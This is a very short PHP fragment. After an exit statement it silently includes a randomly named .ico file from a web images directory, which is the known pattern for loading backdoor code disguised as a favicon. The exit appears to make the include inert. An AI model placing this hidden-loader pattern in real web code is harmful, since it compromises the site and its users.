<?php exit;
@include '/var/www/html/images/favicon_a1b2c3.ico';
